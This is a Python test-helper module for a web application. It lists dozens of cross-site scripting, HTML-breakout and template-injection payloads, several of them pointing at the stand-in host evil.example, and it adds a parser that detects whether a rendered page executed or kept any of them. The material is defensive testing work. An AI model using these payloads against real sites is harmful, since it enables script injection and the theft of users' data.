"""Texts that would do something if a page let them, and how to see in a page that one of them did."""

from __future__ import annotations

from collections.abc import Iterable
from html.parser import HTMLParser

#: An attribute that no page of ours has: an element with it was made by a text.
MARK = "planted"
#: What a template would make of the texts that look like templates, in two halves, so that the texts do not hold it.
MADE = "plan" + "ted-by-a-template"
_PLAIN = (
    "<script planted>alert(1)</script>", "<img src=x onerror=alert(1) planted>", '"><img src=x onerror="window.planted=1" planted>',
    "'><svg onload=alert(1) planted>", "</script><script planted>alert(1)</script>", "</title><script planted>alert(1)</script>",
    "</textarea><b planted>x</b>", "</style><style planted>*{display:none}</style>", "--><b planted>x</b><!--", "]]><b planted>x</b><![CDATA[",
    '<svg><script planted href="data:,alert(1)"/></svg>', "<svg><animate onbegin=alert(1) attributeName=x dur=1s planted>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1) planted>", '<iframe srcdoc="<script>alert(1)</script>" planted></iframe>',
    '<object data="javascript:alert(1)" planted></object>', '<embed src="//evil.example/x.swf" planted>',
    '<base href="https://evil.example/" planted>', '<meta http-equiv="refresh" content="0;url=https://evil.example/" planted>',
    '<link rel="stylesheet" href="https://evil.example/x.css" planted>', '<form action="https://evil.example/" planted><button>Undo</button></form>',
    "<input autofocus onfocus=alert(1) planted>", "<details open ontoggle=alert(1) planted>", '<a href="javascript:alert(1)" planted>x</a>',
    "javascript:alert(1)//https://www.linkedin.com/in/x", "JaVa\tScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
    '" onmouseover="alert(1)" planted x="', "' onfocus='alert(1)' autofocus planted='", "x autofocus onfocus=alert(1) planted ",
    "&lt;script planted&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1) planted&#62;", "&quot; onclick=&quot;alert(1)&quot; planted",
    "%3Cscript planted%3Ealert(1)%3C/script%3E", "\\u003cscript planted\\u003ealert(1)\\u003c/script\\u003e",
    '{{ "plan"|add:"ted-by-a-template" }}{{ owner.password }}', '{% now "Y" %}{% include "base.html" %}{% endblock %}<b planted>',
    "${alert(1)}{{constructor.constructor('alert(1)')()}}", '<div hx-get="/people" hx-trigger="load" hx-on:load="alert(1)" planted></div>',
    '<p style="background:url(https://evil.example/x)" planted>', "\"><style>@import 'https://evil.example/x.css';</style><b planted>",
    "\u202e\u2066<b planted>gnp.exe", "a\0<b\0 planted>x</b>", "<b planted>\nSet-Cookie: planted=1", "A" * 3_000 + "<b planted>",
    '<a href="/undo/1" data-key="u" planted>', "<x/onclick=alert(1)//planted>", "\ud800<b planted>\uff1cb planted\uff1e",
)  # fmt: skip
#: Each with a number behind it, by which it is found again.
PAYLOADS = tuple(f"{text} P{number:02d}" for number, text in enumerate(_PLAIN, 1))
#: As somebody would type them: a browser sends no half of a character.
TYPED = tuple(text.encode("utf-8", "replace").decode() for text in PAYLOADS)
#: Attributes whose value a browser goes to, and the schemes that are no address.
_LEADS = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "srcset",
    "xlink:href",
    "hx-get",
    "hx-post",
}
_SCHEMES = ("javascript:", "data:", "vbscript:")
#: What every whole page has.
WHOLE = ("main", "nav", "h1", "title")
#: Elements that no page of ours has.
_NEVER = {"iframe", "object", "embed", "base", "style", "math", "animate", "mglyph", "x", "frame", "applet"}


class Seen(HTMLParser):
    """What is wrong with a page, read as a browser without scripts reads it; and whether it still has its parts."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.tags: dict[str, int] = {}

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] = self.tags.get(tag, 0) + 1
        for name, value in attrs:
            there = (value or "").strip().lower()
            if name.startswith(("on", "hx-on", MARK)) or name in ("style", "srcdoc"):
                self.faults.append(f"<{tag} {name}>")
            elsewhere = (
                "evil.example" in there.partition("?")[0] and tag != "a"
            )  # a profile that stood in a file may be followed by hand
            if name in _LEADS and (there.startswith(_SCHEMES) or elsewhere):
                self.faults.append(f"<{tag} {name}={there[:40]}>")
        if (
            tag in _NEVER
            or (tag == "script" and "src" not in dict(attrs))
            or (tag == "meta" and "http-equiv" in dict(attrs))
        ):
            self.faults.append(f"<{tag}>")


def faults(html: str, wants: Iterable[str] = WHOLE) -> list[str]:
    """What texts have made of a page, and which of its parts it has lost."""
    seen = Seen()
    seen.feed(html)
    lost = [f"no {tag}" for tag in wants if not seen.tags.get(tag)]
    more = [f"{seen.tags[tag]} times {tag}" for tag in ("main", "title", "body") if seen.tags.get(tag, 0) > 1]
    template = ["a template was run"] if MADE in html else []
    return seen.faults + lost + more + template
